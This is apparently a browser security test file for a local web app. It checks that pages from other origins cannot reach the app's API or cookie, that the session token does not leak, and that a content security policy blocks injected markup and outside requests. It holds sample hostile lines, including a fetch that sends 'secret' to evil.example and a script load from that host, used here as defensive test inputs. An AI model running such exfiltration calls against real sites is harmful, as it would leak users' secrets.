// Pages of other programs in the same browser, to which it would give our cookie: what they try reaches nothing.
// @module-tag browser
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { closeAtEnd } from '../../../support/closing.ts';
import type { OpenPage } from '../../../support/web/launch-browser.ts';
import { openPage } from '../../../support/web/open-browser.ts';
import { openSmallHouse, SCRIPT, type SmallHouse } from './small-house.ts';

interface Scene {
  readonly house: SmallHouse;
  /** "http://127.0.0.1:4000" of our server. */
  readonly ours: string;
  /** The port of somebody else's. */
  readonly other: number;
  readonly opened: OpenPage;
  /** "403 GET /api/state", as our server answered, with what the page itself was. */
  readonly answers: string[];
}

const ATTACK = readFileSync(join(import.meta.dirname, 'fixtures', 'attack.js'), 'utf8');

const onScene = async (): Promise<Scene> => {
  const house = await openSmallHouse();
  closeAtEnd(() => house.close());
  const stranger = createServer((_, response) => {
    const page = `<!doctype html><title>Stranger</title><body><script>${ATTACK}</script>`;
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(page);
  });
  await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done));
  closeAtEnd(() => stranger.close());
  const opened = await openPage();
  const ours = `http://127.0.0.1:${house.port}`;
  const answers: string[] = [];
  opened.page.context().on('response', (response) => {
    const url = new URL(response.url());
    if (url.origin === ours) answers.push(`${response.status()} ${response.request().method()} ${url.pathname}`);
  });
  // It listens on an address, not on a pipe.
  return { house, ours, other: (stranger.address() as AddressInfo).port, opened, answers };
};

let scene: Scene;
beforeEach(async () => {
  scene = await onScene();
});

describe('a page of another program', () => {
  // The first is another port of the same host, which the browser calls the same site; the second is another site altogether.
  it.each(['127.0.0.1', 'localhost'])(
    'case 288, case 289, case 291, case 296: at http://%s:… gets and does nothing',
    async (name) => {
      const { house, ours, other, opened, answers } = scene;
      const { page } = opened;
      await page.goto(house.link());
      expect(await page.title()).toBe('Desk');
      const own = await page.evaluate(
        `fetch('/api/state', { headers: { 'x-countersign': '1' } }).then(({ status }) => status)`,
      );
      expect(own).toBe(200);
      expect(house.handled).toHaveLength(1);
      answers.length = 0;

      await page.goto(`http://${name}:${other}/`);
      const heard = await page.evaluate<string[]>(`attack('${ours}', '${SCRIPT}')`);
      expect(heard.filter((each) => !each.endsWith(': nothing'))).toEqual([]);
      expect(heard.length).toBeGreaterThan(14);
      expect(house.handled).toHaveLength(1);
      expect(house.journal.followers).toBe(0);
      expect(page.frames().filter((frame) => frame.url().startsWith(ours))).toEqual([]);
      expect(answers.filter((answer) => !/^(401|403|405) /.test(answer))).toEqual([]);
      opened.errors.length = 0; // the browser complains of each of them
    },
  );

  it('opens the desk in a window of its own, which knows nothing of who opened it', async () => {
    const { house, ours, other, opened } = scene;
    await opened.page.goto(house.link());
    await opened.page.goto(`http://127.0.0.1:${other}/`);
    const popup = opened.page.context().waitForEvent('page');
    await opened.page.evaluate(`void window.open('${ours}/')`);
    const desk = await popup;
    await vi.waitFor(async () => expect(await desk.title()).toBe('Desk'), 30_000);
    expect(await desk.evaluate('window.opener === null')).toBe(true);
    opened.errors.length = 0;
  });

  it('case 292: may hold the link; the page it leads to goes on with one step', async () => {
    const { house, other, opened } = scene;
    const { page } = opened;
    await page.goto(`http://localhost:${other}/`);
    await page.evaluate(`location.assign('${house.link()}')`);
    // The cookie is there, but not sent with a step that began on another site.
    await page.getByRole('link', { name: 'Go on' }).click();
    await vi.waitFor(async () => expect(await page.title()).toBe('Desk'), 30_000);
    expect(page.url()).not.toContain('token');
    expect(await page.evaluate('document.cookie')).toBe('');
    expect(await page.evaluate('document.referrer')).not.toContain('token');
    opened.errors.length = 0;
  });
});

describe('our own page', () => {
  it('case 298: loads nothing from elsewhere, and makes no elements of text, should it ever try', async () => {
    const { house, opened } = scene;
    const { page } = opened;
    await page.goto(house.link());
    const tried = (work: string): Promise<string> =>
      page.evaluate<string>(`(async () => { ${work}; return 'done'; })().catch(({ name }) => name)`);
    expect(await tried(`document.body.innerHTML = '<b>x</b>'`)).toBe('TypeError');
    expect(await tried(`document.write('<b>x</b>')`)).toBe('TypeError');
    expect(await tried(`document.createElement('script').src = 'https://evil.example/x.js'`)).toBe('TypeError');
    expect(await tried(`await fetch('https://evil.example/?d=secret')`)).toBe('TypeError');
    expect(opened.outbound()).toEqual([]);
    // Both are told a moment later: the breach of the policy, and a word on the console about the last one.
    const told = (kind: string): number => opened.errors.filter((error) => error.startsWith(kind)).length;
    await vi.waitFor(() => expect([told('policy: '), told('console: ')]).toEqual([4, 5]), 30_000);
    opened.errors.length = 0;
  });
});
